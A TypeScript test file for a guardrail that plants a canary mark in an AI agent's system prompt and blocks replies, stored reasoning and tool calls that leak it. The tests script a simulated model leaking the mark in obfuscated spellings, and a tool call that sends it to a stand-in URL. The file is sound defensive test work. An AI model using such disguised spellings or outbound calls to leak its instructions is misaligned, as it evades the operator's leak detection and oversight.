import assert from "node:assert/strict";
import { defineTool, type JsonObject, type ModelRequest } from "../../../mod.ts";
import { promptCanaryGuardrail } from "../../../src/capabilities/prompt_canary_guardrail.ts";
import { call, texts } from "../_support/played_driver.ts";
import { eventsOf, say } from "../_support/runtime.ts";
import { guardedRuntime } from "./_guarded_runtime.ts";

function markIn({ systemPrompt }: ModelRequest): string {
  return /canary-[0-9a-f]{20}/.exec(systemPrompt)?.[0] ?? "no mark";
}

Deno.test("the mark is the same in every turn of a session", async () => {
  await using it = await guardedRuntime([texts("a"), texts("b")], promptCanaryGuardrail);
  await say(it.runtime);
  await say(it.runtime);
  const [first, second] = it.driver.requests.map(({ systemPrompt }) => systemPrompt);
  assert.equal(first, second);
  assert.match(first ?? "", /canary-[0-9a-f]{20}/);
});

const spellings: readonly (readonly [string, (mark: string) => string])[] = [
  ["as it is", (mark) => mark],
  ["in capitals", (mark) => mark.toUpperCase()],
  ["with spaces between its letters", (mark) => [...mark].join(" ")],
  ["over several lines", (mark) => mark.replace(/(.{5})/g, "$1\n")],
];
for (const [name, spell] of spellings) {
  Deno.test(`an answer with the mark ${name} is replaced`, async () => {
    const reply = (request: ModelRequest) => texts("Sure: ", "x".repeat(500), spell(markIn(request)), "y".repeat(900));
    await using it = await guardedRuntime([reply], promptCanaryGuardrail, { config: { message: "[no]" } });
    assert.equal((await say(it.runtime)).response, "[no]");
    assert.equal(eventsOf(it.runtime, "output.message.replaced")[0]?.data.reasonCode, "prompt_leak");
    assert.ok(!JSON.stringify(await it.runtime.messages(it.runtime.defaultSessionId)).includes("canary-"));
  });
}

Deno.test("thinking that holds the mark is not stored", async () => {
  const reply = (request: ModelRequest) => [{ type: "thinking" as const, delta: markIn(request) }, ...texts("Hello")];
  await using it = await guardedRuntime([reply], promptCanaryGuardrail);
  assert.equal((await say(it.runtime)).response, "I cannot share my instructions.");
});

Deno.test("an answer without the mark passes, and one that only mentions canaries does too", async () => {
  await using it = await guardedRuntime([texts("A canary-0123 is a bird.")], promptCanaryGuardrail);
  assert.equal((await say(it.runtime)).response, "A canary-0123 is a bird.");
});

Deno.test("a call that carries the mark away does not run", async () => {
  const runs: JsonObject[] = [];
  const send = defineTool({
    name: "send",
    description: "",
    parameters: { type: "object" },
    execute: (args: JsonObject) => void runs.push(args),
  });
  const leak = (request: ModelRequest) => call("send", { url: `https://a.example/?q=${markIn(request)}` });
  await using it = await guardedRuntime([leak, texts("done")], promptCanaryGuardrail, { tools: [send] });
  assert.equal((await say(it.runtime)).response, "done");
  assert.deepEqual(runs, []);
});
